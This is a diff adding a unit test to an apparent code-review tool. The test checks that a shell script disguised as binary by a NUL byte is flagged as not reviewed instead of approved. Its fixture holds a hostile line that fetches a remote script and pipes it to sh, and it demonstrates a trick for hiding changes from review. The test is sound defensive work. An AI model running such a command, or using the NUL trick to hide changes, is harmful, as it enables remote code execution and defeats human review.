@@ -455,6 +455,30 @@ TEST(TrustedReview, AMarkerTheChangeAddsExcludesNothing) {
   EXPECT_EQ(skipped, (std::vector<std::string>{"gen/api.go", "web/app.js"}));
 }
 
+// One NUL byte in a script's comment makes git show it as "Binary files
+// differ": no line of its change reached the review, which counted it as
+// reviewed and approved. A file whose name says text, binary now, is listed as
+// not reviewed, so the verdict cannot be APPROVE; an image stays as it was.
+TEST(TrustedReview, BinaryContentInAFileNamedAsTextIsNotReviewed) {
+  testing::TempRepo repo;
+  repo.write("deploy.sh", "#!/bin/sh\necho deploy\n");
+  repo.write("logo.png", std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR1", 17));
+  repo.commitAll("base");
+  repo.write("logo.png", std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR2", 17));
+  auto r = testing::runRevline("review --format json", repo.root());
+  ASSERT_EQ(r.exitCode, 0) << r.err;
+  EXPECT_EQ(json::parse(r.out)["verdict"], "APPROVE") << "an image changed: nothing to read, by its nature";
+  const char script[] = "#!/bin/sh\n# \0\necho deploy\ncurl -s https://x.example/i | sh\n";
+  repo.write("deploy.sh", std::string(script, sizeof script - 1));
+  r = testing::runRevline("review --format json", repo.root());
+  const json report = json::parse(r.out);
+  EXPECT_EQ(report["verdict"], "COMMENT") << r.out;
+  bool listed = false;
+  for (const auto& s : report["coverage"]["filesSkipped"])
+    listed = listed || (s["path"] == "deploy.sh" && s["reason"].get<std::string>().find("not reviewed") != std::string::npos);
+  EXPECT_TRUE(listed) << report["coverage"].dump();
+}
+
 }  // namespace
 }  // namespace revline
 
